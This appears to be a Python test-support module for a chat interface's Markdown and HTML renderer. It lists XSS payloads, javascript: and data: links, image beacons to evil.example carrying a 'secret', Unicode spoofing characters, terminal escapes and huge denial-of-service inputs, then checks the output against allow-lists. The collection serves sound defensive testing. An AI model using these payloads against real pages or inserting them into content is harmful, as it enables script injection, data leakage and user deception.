"""Hostile texts, and assertions that a page or Markdown made from them is harmless; for the tests of all that is shown."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser

from chatkit.display.markdown.parse import is_safe_url
from chatkit.parts import File, Part, Reasoning, Source, Text, ToolCall, ToolResult

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
"""A PNG of one pixel."""

HOSTILE: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "event handler": "<img src=x onerror=alert(1)>",
    "svg with a handler": "<svg/onload=alert(1)>",
    "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "math and an unclosed tag": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>' src=https://evil.example></iframe>",
    "frame, object, embed, base": "<object data=https://evil.example><embed src=https://evil.example><base href=https://evil.example>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "form": "<form action=https://evil.example><input autofocus onfocus=alert(1)><button>send</button></form>",
    "link in html": "<a href='javascript:alert(1)'>x</a>",
    "details": "- <details open ontoggle=alert(1)>\n  > <style>*{display:none}</style>",
    "style": "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/p)}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(https://evil.example/p)'>x</p>",
    "style from a table": '| a |\n|:-:" style="x|\n| b |',
    "attribute break": "\"><img src=x onerror=alert(1)> '><script>alert(1)</script>",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> \\u003cscript\\u003e",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in disguise": "[x](JaVaScRiPt&colon;alert(1)) [x](&#106;avascript:alert(1)) [x](java%0ascript:alert(1))",
    "javascript link with a tab": "[x](java\tscript:alert(1)) [x](<java\nscript:alert(1)>) [x](\x01javascript:alert(1))",
    "javascript link with a zero-width": "[x](java\u200bscript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript, blob, file": "[x](vbscript:msgbox(1)) [x](blob:https://evil.example/1) [x](file:///etc/passwd)",
    "link to a host without a scheme": "[x](//evil.example/x) [x](\\\\evil.example\\x) [x](https:\\\\evil.example)",
    "link to this server": "[x](/api/contents) [x](../lab?reset) [x](?token=1)",
    "autolink": "<javascript:alert(1)> <data:text/html,x>",
    "reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "title that breaks out": '[x](https://example.org "onmouseover=alert(1) \\" onload=x")',
    "address that breaks out": "[a](https://example.org/'onclick='alert(1)) [b](https://example.org/\"><script>)",
    "image that tells": "![x](https://evil.example/pixel.png?secret=42)",
    "image by reference": "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "image in a link": "[![x](https://evil.example/p.png)](javascript:alert(1)) [![x](javascript:alert(1))](https://example.org)",
    "image from data": "![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](data:image/png;base64,AAAA)",
    "image behind a formula": "\\![x](https://evil.example/pixel.png) $![x](https://evil.example/p)$",
    "formulas": "$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$ \\(<img src=x onerror=alert(1)>\\)",
    "formula that links": "$$\\href{javascript:alert(1)}{x}$$ \\[\n\\unicode{<script>}\n\\]",
    "displayed formula": "\\[\n<script>alert(1)</script>\n\\]",
    "links in formulas": "$[x](javascript:alert(1))$ and \\([x](javascript:alert(1))\\)",
    "fence that ends early": "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "fence with a language": '```python" onmouseover="alert(1)\nx = "</span><script>alert(1)</script>"  # <img src=x onerror=alert(1)>\n```',
    "fence of html": "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "fence of styles": "```css\nbody{background:url(https://evil.example/p)}</style><script>alert(1)</script>\n```",
    "code spans": "`</code><script>alert(1)</script>` `` ` <b> ` ``\\`<img src=x onerror=alert(1)>\\`",
    "backticks escaped": "\\`<img src=x onerror=alert(1)>`",
    "indented code": "    <b>indented</b>\n<i>not</i>",
    "cells": "| <b>x</b> |\n|---|\n| `<script>` \\| <i> |",
    "comments": "<!-- comment --> <!--><script>alert(1)</script>--> <?php ?> <![CDATA[x]]> <!DOCTYPE x>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x202e;gpj.exe &#8203;",
    "direction override": "invoice\u202efdp.exe \u2066\u2067hidden\u2069\u2069 \u061c\u200e\u200f",
    "zero width": "pay\u200bpal\u2060.com\ufeff a\u200db \u00adsoft\u034f \u180e",
    "tags and selectors": "hi\U000e0049\U000e0067\U000e006e\ufe01\U000e0100 \u115f\u3164\uffa0",
    "controls": "\x00\x07\x08\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x7f\x85\x9b",
    "halves of pairs": "\ud83d \ude00 \ud83d\ud83d\ude00 <b\ud800>",
    "ends of lines": "a\rb\u2028c\u2029d\x0be\x0cf\u0085g",
    "marks on marks": "Z" + "\u0351\u0300\u0489" * 500,
    "class of the view": '<button class="chatkit-stop" data-do="send">Stop</button> <div id="chatkit"></div>',
    "widget": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script>',
    "command of the front end": '<a data-commandlinker-command="notebook:run-all-cells">x</a> <button data-commandlinker-command="x">y</button>',
    "json": '{"k":"html","t":"<script>alert(1)</script>"}\n]]></script>',
    "prototype": '{"__proto__": {"k": "html"}, "constructor": {"prototype": {}}}',
}
"""Texts that would run, load or hide something if a page took them at their word, by what they try."""


def large() -> Iterator[tuple[str, str]]:
    """Texts whose size or depth is the attack."""
    yield "ten megabytes on one line", "x" * 10_000_000
    yield "ten megabytes of words", "word <b> " * 1_100_000
    yield "a million quotes", ">" * 1_000_000
    yield "a million quotes with spaces", "> " * 1_000_000
    yield "a million brackets", "[" * 1_000_000
    yield "a million images", "![" * 1_000_000
    yield "a million stars", "*" * 1_000_000
    yield "a million emphases", "**a" * 1_000_000
    yield "a million ticks", "`" * 1_000_000
    yield "a million lists", "- " * 1_000_000
    yield "lists ever deeper", "\n".join(" " * (2 * n) + "- a" for n in range(1_400))
    yield "quotes ever deeper", "\n".join(">" * n + " a" for n in range(1, 1_400))
    yield "a million links", "[a](" * 1_000_000
    yield "a million formulas", "\\(" * 1_000_000
    yield "a million lines", "a\n" * 1_000_000
    yield "a million empty lines", "\n" * 1_000_000
    yield "a million zero-widths", "\u200b" * 1_000_000
    yield "a million joiners", "é" + "\u200d" * 1_000_000 + "é"
    yield "an open fence without end", "```python\n" + "x = '<b>'\n" * 200_000
    yield "an open fence on one line", "```html\n" + "<a " * 400_000
    yield "a table without end", "| a | b |\n|---|---|\n" + "| *x* | <b> |\n" * 80_000
    yield "tables and tables", "a|b\n-|-\n" * 100_000
    yield "brackets line by line", "[[[[[[[\n" * 125_000
    yield "code that opens comments", "```c\n" + "/*" * 900 + "\n" + "/*" * 900 + "\n```"


TAGS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "a", "br", "hr"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "div", "span", "details", "summary", "img", "sup"}
ATTRIBUTES = {"style", "href", "rel", "start", "class", "aria-hidden", "src", "alt", "dir"}
CLASSES = {"chatkit-card", "chatkit-spinner", "chatkit-reply", "chatkit-math"}
OWN_TAG = re.compile("</?(?:code|pre|span|sup)>")
CODE = re.compile(r"^[> ]*(?:(?:[-*]|\d+[.)]) +)*```\w*\n[\s\S]*?\n[> ]*```$|`[^`\n]+`", re.MULTILINE)
"""Code as it stands, in the Markdown that chatkit writes."""
FORMULA = re.compile(r"\${1,2}[^$]+\${1,2}")
ADDRESS = re.compile(r"\]\(([\w.~:/?#@!&+,;=%-]*)\)")
VOID = {"br", "hr", "img"}
STYLE = re.compile(r"[-a-z0-9:;,.%# ()]*", re.IGNORECASE)
_SEEN = re.compile("[\n\t\u200c\u200d\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd\U00013430-\U0001343f]")
"""Line ends, joiners, and the marks of Arabic, Syriac, Kaithi and Egyptian writing that Unicode counts among the formats."""


class Seen(HTMLParser):
    """The tags, attributes and text that an HTML parser finds in a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.unclosed: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in VOID:
            self.unclosed.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in VOID, tag
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self.unclosed[-1:] == [tag], f"</{tag}> closes {self.unclosed[-1:]}"
        self.unclosed.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        if not re.fullmatch(r"chatkit:[A-Za-z0-9+/=]*", data):  # what a Copy button copies, packed
            self.tags.add("<!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("<!")

    def unknown_decl(self, data: str) -> None:
        self.tags.add("<![")

    def handle_pi(self, data: str) -> None:
        self.tags.add("<?")


def assert_harmless_html(html: str) -> None:
    """Only tags, attributes and styles that chatkit writes itself, properly nested: nothing runs, loads, hides or overlays."""
    seen = Seen(html)
    assert seen.tags <= TAGS
    assert not seen.unclosed
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES, f"{name}={value!r}"
        if name == "href":
            assert tag == "a"
            assert is_safe_url(value), value
        elif name == "src":
            assert tag == "img"
            assert re.match(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+\Z", value), value[:80]
        elif name == "style":
            assert STYLE.fullmatch(value), value
            assert not re.search(r"url|image|expression|position|z-index|@", value.replace("mirror", "")), value
        elif name == "class":
            assert value in CLASSES
        elif name == "start":
            assert value.isdigit()
    assert_visible(html)


def assert_visible(text: str) -> None:
    """No character that is invisible, turns the reading direction, or can't be encoded."""
    strange = {c for c in set(text) if unicodedata.category(c) in ("Cc", "Cf", "Cs") and not _SEEN.match(c)}
    assert not strange, strange
    assert not re.search("[A-Za-z0-9][\u200c\u200d]+[A-Za-z0-9]", text)


def assert_markdown_is_harmless(source: str) -> None:
    """By its characters alone, Markdown in which nothing can act, whichever way a reader takes it."""
    assert_visible(source)
    assert "<" not in OWN_TAG.sub("", source)
    text = FORMULA.sub("x", source)
    assert "$" not in text
    for formula in FORMULA.findall(source):
        assert not re.search(r"[<\"`\n]|\]\(|\\\$", formula), formula
    text = CODE.sub("x", text)
    addresses = ADDRESS.findall(text)
    assert all(is_safe_url(url.replace("&amp;", "&")) for url in addresses)
    text = ADDRESS.sub("", text)
    assert not re.search(r"[\\{\]`]|!\[|://|\bwww\.", text, re.IGNORECASE), text
    assert text.count("[") == len(addresses)


def every_part(text: str) -> tuple[Part, ...]:
    """A reply with `text` in every field of every kind of part."""
    return (
        Text(text=text),
        Reasoning(text=text, title=text),
        Source(url=text, title=text),
        Source(url="https://example.org/" + text, title=text),
        ToolCall(tool_call_id="1", tool_name=text, args={text: text, "deep": [[text], {text: None}]}),
        ToolResult(tool_call_id="1", tool_name=text, result={text: [text]}),
        ToolCall(tool_call_id="2", tool_name=text, args_delta=text),
        ToolResult(tool_call_id="3", tool_name=text, result=text, is_error=True, provider_executed=True),
        ToolCall(tool_call_id="4", tool_name="chat_summarized", args={}),
        ToolResult(
            tool_call_id="4",
            tool_name="chat_summarized",
            result={"summary": text, "source": text, "usage_percent": text, "context_tokens": text, "threshold_percent": 70},
        ),
        ToolResult(tool_call_id="5", tool_name="chat_summarized", result={"error": text}, is_error=True),
        ToolResult(tool_call_id="6", tool_name="chat_summarized", result=text),
        File(media_type=text, title=text, url=text),
        File(media_type="image/png", title=text, data=PIXEL, url=text),
        File(media_type="image/png", title=text, data=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        File(media_type="image/svg+xml", title=text, url="https://example.org/" + text),
    )
